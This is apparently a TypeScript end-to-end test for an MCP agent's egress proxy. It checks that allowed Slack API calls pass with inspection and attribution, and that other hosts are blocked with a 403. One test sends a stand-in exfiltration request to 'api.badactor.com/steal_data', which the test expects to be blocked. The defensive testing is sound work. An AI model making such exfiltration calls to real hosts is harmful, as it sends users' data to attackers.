import { mkdtemp } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { TAgentEvent } from "@lunar/shared";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import pino from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningAgent, startAgent } from "../agent-runtime";
import { writeConfig } from "../testing/fixture-config";
import { OUTBOUND_SERVERS, outboundServerConfig } from "../testing/outbound/interception-harness";
import { type StandInUpstream, startStandInUpstream } from "../testing/outbound/stand-in-upstream";
import { loopbackOnlyDialer } from "./dialer";
import type { ResolveOverride } from "./egress-context";
import { EgressManager } from "./egress-manager";
import { FlowsState } from "./flows-state";

// Unmodified MCP servers (global fetch, node-fetch, http.request, axios, Python urllib), spawned
// by the agent exactly as in production: their outbound calls go through their own egress proxy,
// over HTTPS with TLS inspection, to a local stand-in for slack.com trusted through its own CA
// (verification stays on). Calls anywhere else get the generated 403, and nothing is dialled.
const ALLOW_SLACK = {
  AllowFilter: { processor: "Filter", parameters: [{ key: "urls", value: ["slack.com/api/*"] }] },
};

describe("egress control of unmodified servers, end to end", { timeout: 120_000 }, () => {
  let upstream: StandInUpstream;
  let agent: RunningAgent;
  let client: Client;
  const events: TAgentEvent[] = [];
  const dialer = loopbackOnlyDialer();

  beforeAll(async () => {
    upstream = await startStandInUpstream({ names: ["slack.com", "api.badactor.com"] });
    const overrides = new Map<string, ResolveOverride>([
      ["slack.com:443", { address: "127.0.0.1", port: upstream.httpsPort }],
      ["slack.com:80", { address: "127.0.0.1", port: upstream.httpPort }],
      ["api.badactor.com:443", { address: "127.0.0.1", port: upstream.httpsPort }],
    ]);
    const log = pino({ level: "silent" });
    const flows = new FlowsState({ failClosed: false, cachePath: null, log });
    flows.apply(1, ALLOW_SLACK, "file");
    const stateDir = await mkdtemp(join(tmpdir(), "mcpx-e2e-"));
    const record = (event: TAgentEvent) => events.push(event);
    const egress = await EgressManager.create({
      stateDir,
      flows,
      inspectTls: true,
      noInspect: new Set(),
      resolveOverrides: overrides,
      upstreamCAs: [upstream.caPem],
      registryAllowance: false,
      ownPorts: new Set(),
      env: process.env,
      log,
      record,
      dialer,
    });
    const servers = Object.fromEntries(
      OUTBOUND_SERVERS.map((kind) => [kind, outboundServerConfig(kind)]),
    );
    agent = await startAgent({
      configPath: await writeConfig(servers),
      stdio: false,
      http: { port: 0, host: "127.0.0.1" },
      stateDir,
      agentId: "0193a0b4-1c2d-7e8f-9a0b-1c2d3e4f5a6b",
      name: "e2e",
      log,
      env: process.env,
      events: { record },
      egress,
    });
    client = new Client({ name: "e2e", version: "1" });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(`http://127.0.0.1:${agent.httpPort}/mcp`)),
    );
    const names = (await client.listTools()).tools.map((tool) => tool.name);
    for (const kind of OUTBOUND_SERVERS) expect(names).toContain(`${kind}__fetch_url`);
  });
  afterAll(async () => {
    await client?.close();
    await agent?.close();
    await upstream?.close();
  });

  async function fetchVia(kind: string, url: string, method = "POST") {
    const result = (await client.callTool({
      name: `${kind}__fetch_url`,
      arguments: method === "GET" ? { url, method } : { url, method, body: "hello" },
    })) as {
      content: { text: string }[];
    };
    return callFetchUrlResult(result);
  }

  it.each(OUTBOUND_SERVERS)(
    "%s: an allowed HTTPS call goes through, inspected and attributed",
    async (kind) => {
      const result = await fetchVia(kind, "https://slack.com/api/chat.postMessage");
      expect(result.status).toBe(200);
      expect(JSON.parse(result.body ?? "{}")).toMatchObject({
        standIn: true,
        scheme: "https",
        path: "/api/chat.postMessage",
      });
      const call = events.findLast((e) => e.type === "http_call" && e.server === kind);
      const tool = events.findLast((e) => e.type === "tool_call" && e.server === kind);
      expect(call).toMatchObject({
        host: "slack.com",
        path: "/api/chat.postMessage",
        decision: "allowed",
        inspected: true,
        status: 200,
      });
      // One tool call in flight on that server: the outbound call is tied to it.
      expect(call?.correlationId).toBe(tool?.correlationId);
    },
  );

  it.each(OUTBOUND_SERVERS)(
    "%s: a call anywhere else gets the generated 403, never dialled",
    async (kind) => {
      const arrivedBefore = upstream.requests.filter((r) => r.host.includes("badactor")).length;
      const attemptsBefore = dialer.attempts.length;
      const result = await fetchVia(kind, "https://api.badactor.com/steal_data");
      expect(result.status).toBe(403);
      expect(result.body).toBe("Forbidden Access");
      expect(upstream.requests.filter((r) => r.host.includes("badactor")).length).toBe(
        arrivedBefore,
      );
      expect(dialer.attempts.length).toBe(attemptsBefore);
      expect(events.findLast((e) => e.type === "http_call" && e.server === kind)).toMatchObject({
        host: "api.badactor.com",
        decision: "blocked",
        rule: "org:AllowFilter",
        status: 403,
      });
    },
  );

  it.each(OUTBOUND_SERVERS)("%s: plain HTTP is decided the same way", async (kind) => {
    expect((await fetchVia(kind, "http://slack.com/api/ping", "GET")).status).toBe(200);
    expect((await fetchVia(kind, "http://slack.com/admin", "GET")).status).toBe(403);
  });
});

function callFetchUrlResult(result: { content: { text: string }[] }) {
  const text = result.content[0]?.text ?? "";
  try {
    return JSON.parse(text) as { status: number; body?: string };
  } catch {
    return { status: 0, body: text };
  }
}
